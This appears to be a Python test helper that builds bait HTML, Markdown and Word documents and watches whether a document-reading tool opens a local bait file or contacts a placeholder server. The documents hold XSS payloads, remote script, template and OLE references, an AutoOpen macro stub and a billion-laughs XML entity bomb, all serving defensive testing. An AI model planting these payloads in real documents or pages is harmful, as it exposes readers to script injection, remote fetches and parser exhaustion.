"""Documents that would run something, open a file or ask a server, if one did as they say.

Each holds `WORDS` below a day. `Eyes` sees whether the file they name was opened by any process, and what
the process that reads tried to connect to.
"""

import ctypes
import io
import os
import sys
import zipfile
from pathlib import Path

WORDS = "Margin first."
OPENED = 0x20  # IN_OPEN
SERVER = "http://192.0.2.1/x.png"
SPACE = "http://schemas.openxmlformats.org"
OF_WORD = f"{SPACE}/officeDocument/2006/relationships"
SITE = """import os, sys
def heard(event, args, into=os.environ["COACH_HEARD"]):
    if event.startswith("socket."):
        with open(into, "a") as log:
            log.write(event + chr(10))
sys.addaudithook(heard)
"""


class Eyes:
    """Of the file `bait`, from its making on; `folder` takes what is needed to see."""

    def __init__(self, folder: Path) -> None:
        self.bait, self._heard = folder / "bait.png", folder / "heard.txt"
        self.bait.write_bytes(b"the secret of the bait")
        site = folder / "site"
        site.mkdir()
        (site / "sitecustomize.py").write_text(SITE, "utf-8")
        self.environment = {"PYTHONPATH": str(site), "COACH_HEARD": str(self._heard)}
        self._libc = ctypes.CDLL(None, use_errno=True)
        self._sees = self._libc.inotify_init1(os.O_NONBLOCK)
        assert self._libc.inotify_add_watch(self._sees, os.fsencode(self.bait), OPENED) > 0

    def opened(self) -> bool:
        """Whether the bait was opened since this was asked last."""
        try:
            return bool(os.read(self._sees, 65_536))
        except BlockingIOError:
            return False

    def connections(self) -> list[str]:
        """What children asked of the network, in its order."""
        return self._heard.read_text("utf-8").split() if self._heard.exists() else []

    def close(self) -> None:
        os.close(self._sees)


def may_see() -> bool:
    """Whether this system tells that a file was opened."""
    return sys.platform == "linux"


def documents(bait: Path) -> dict[str, bytes]:
    """By their names, each of somebody else."""
    there = bait.as_uri()
    html = (
        f"<html><head><base href='{there}'><meta http-equiv='refresh' content='0;url={there}'>"
        f"<link rel='stylesheet' href='{there}'><style>@import url({there});</style></head>"
        f"<body onload='alert(1)'><h2>2026-11-18</h2><p>{WORDS}</p><script src='{SERVER}'>alert(1)</script>"
        f"<iframe src='{there}'></iframe><img src='{there}' onerror='alert(1)'><img src='{SERVER}'>"
        f"<svg onload='alert(1)'><image href='{there}'/></svg><object data='{there}'></object>"
        f"<embed src='{there}'><video src='{there}'></video></body></html>"
    )
    marks = (
        f"## 2026-11-18\n\n{WORDS}\n<script>alert(1)</script>\n![x]({there}) ![y]({SERVER})\n"
        f"<img src='{there}'> <iframe src='{there}'></iframe>\n[go](javascript:alert(1)) ![[{bait}]]\n"
    )
    return {
        "Ada.html": html.encode(),
        "Ben.md": marks.encode(),
        "Cy.txt": marks.encode(),
        "Dev.docx": word(there),
    }


def word(there: str, doctype: str = "", said: str = WORDS) -> bytes:
    """With macros, a template, a picture and an object elsewhere."""
    body = (
        f"<w:p><w:r><w:t>2026-11-18</w:t></w:r></w:p><w:p><w:r><w:t>{said}</w:t></w:r></w:p>"
        '<w:p><w:r><w:drawing><a:blip r:link="out" r:embed="out"/></w:drawing></w:r></w:p>'
        '<w:p><w:r><w:object><o:OLEObject r:id="ole"/></w:object></w:r></w:p>'
        '<w:p><w:fldSimple w:instr="INCLUDEPICTURE x"/></w:p>'
    )
    names = (
        f'xmlns:w="{SPACE}/wordprocessingml/2006/main" xmlns:a="{SPACE}/drawingml/2006/main" '
        f'xmlns:r="{OF_WORD}" xmlns:o="urn:schemas-microsoft-com:office:office"'
    )
    related = "".join(
        f'<Relationship Id="{name}" Type="{OF_WORD}/{kind}" Target="{target}" TargetMode="External"/>'
        for name, kind, target in (
            ("out", "image", there), ("ole", "oleObject", there), ("t", "attachedTemplate", SERVER)
        )
    )  # fmt: skip
    root = f'<Relationship Id="r" Type="{OF_WORD}/officeDocument" Target="word/document.xml"/>'
    package = f"{SPACE}/package/2006"
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as into:
        into.writestr("[Content_Types].xml", f'<Types xmlns="{package}/content-types"/>')
        into.writestr("_rels/.rels", f'<Relationships xmlns="{package}/relationships">{root}</Relationships>')
        into.writestr(
            "word/_rels/document.xml.rels",
            f'<Relationships xmlns="{package}/relationships">{related}</Relationships>',
        )
        into.writestr(
            "word/document.xml", f"{doctype}<w:document {names}><w:body>{body}</w:body></w:document>"
        )
        into.writestr("word/vbaProject.bin", b"Sub AutoOpen()")
    return made.getvalue()


def laughs() -> str:
    """Nine kinds of a word, each ten of the one before: a thousand million."""
    kinds = ['<!ENTITY a0 "ha">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE x [{''.join(kinds)}]>"
